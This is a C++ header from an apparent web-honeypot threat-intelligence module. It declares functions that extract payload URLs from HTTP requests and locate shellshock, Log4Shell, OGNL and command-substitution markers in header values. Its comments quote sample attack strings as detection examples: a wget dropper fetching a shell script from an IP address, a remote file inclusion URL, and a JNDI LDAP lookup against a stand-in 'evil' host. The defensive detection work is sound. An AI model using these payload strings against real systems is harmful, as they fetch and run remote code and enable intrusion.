// URLs inside attack payloads: the download locations of RCE droppers ("cd /tmp; wget
// http://198.51.100.200/bins/x86.sh"), remote file inclusions ("?page=http://evil/shell.txt")
// and JNDI lookups ("${jndi:ldap://evil:1389/a}"). These are the most valuable indicators a
// web honeypot sees (MISP type url, category Payload delivery). Pure functions.
#pragma once

#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

namespace drosera::intel {

// What a piece of the request is, which decides what '+' means when it is decoded.
enum class UrlSource {
  kText,  // a header value, a JSON, XML or plain body: '+' is a plus
  kForm,  // a query string or an application/x-www-form-urlencoded body: '+' is a space
  // A request target: its path as text, its query as a form; a URL at its very start (an
  // absolute-form target, "GET http://host/ HTTP/1.1") is not a payload.
  kRequestTarget,
};

// The distinct URLs found in `text` once percent-decoded (up to three rounds; a form's '+'
// becomes a space in the first round only, the one the application makes, so a '+' that
// decoding "%2B" produced stays one), in order of appearance, at most `max_urls`. Schemes: http,
// https, ftp, tftp, ldap, ldaps, rmi. A URL needs a host that is an IP address or a DNS name;
// scheme and host are lower-cased (an IPv4-mapped IPv6 host becomes plain IPv4, another IPv6
// host its compressed form in brackets); the rest is kept as sent (percent-encoded where not
// printable, see cleanUri).
std::vector<std::string> findPayloadUrls(std::string_view text, size_t max_urls,
                                         UrlSource source = UrlSource::kText);

// Where the payload in a request header value starts: at its first shellshock function
// definition ("() {", blanks between ')' and '{' optional), command substitution ("`" or "$(",
// the D-Link HNAP SOAPAction exploit and its kind), lookup expression ("${", Log4Shell's
// "${jndi:" and its obfuscations) or OGNL expression ("%{", Struts' Content-Type exploit);
// npos when it holds none. Bash, Log4j and OGNL read the raw value, so the marker is looked for
// undecoded.
size_t headerPayloadStart(std::string_view value);

// Percent-decodes once ("%2F" -> "/", "+" -> " " when plus_is_space); invalid escapes stay.
std::string percentDecode(std::string_view text, bool plus_is_space);

}  // namespace drosera::intel
